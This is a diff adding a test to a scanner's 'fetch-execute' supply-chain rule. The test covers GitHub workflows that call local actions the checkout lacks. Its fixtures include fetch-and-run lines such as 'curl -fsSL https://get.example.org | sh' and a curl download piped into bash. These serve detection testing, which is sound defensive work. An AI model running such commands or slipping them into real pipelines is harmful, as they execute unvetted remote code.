@@ -43,6 +43,15 @@ describe("supply-chain/fetch-execute", () => {
     assert.deepEqual(how("# curl https://x | sh"), []);
   });
 
+  it("is incomplete when a workflow uses a local action the checkout does not hold: its scripts were never read", async () => {
+    const wf = "name: CI\non: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/setup\n";
+    const r = await run({ ".github/workflows/ci.yml": wf });
+    assert.equal(r.outcome, "incomplete");
+    assert.match(r.assessment.rules[0]?.reason ?? "", /ci\.yml:8:15: uses \.\/\.github\/actions\/setup, which the checkout does not hold/);
+    const held = await run({ ".github/workflows/ci.yml": wf, ".github/actions/setup/action.yml": "name: Setup\ndescription: d\nruns:\n  using: composite\n  steps:\n    - run: curl -fsSL https://get.example.org | sh\n      shell: bash\n" });
+    assert.deepEqual(held.findings.map((f) => f.locations[0]?.path), [".github/actions/setup/action.yml"]);
+  });
+
   it("follows a download into a later step of the same job", async () => {
     const wf = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSLo get.sh https://x.example/get.sh\n      - run: bash get.sh\n";
     const { findings } = await run({ ".github/workflows/a.yml": wf });
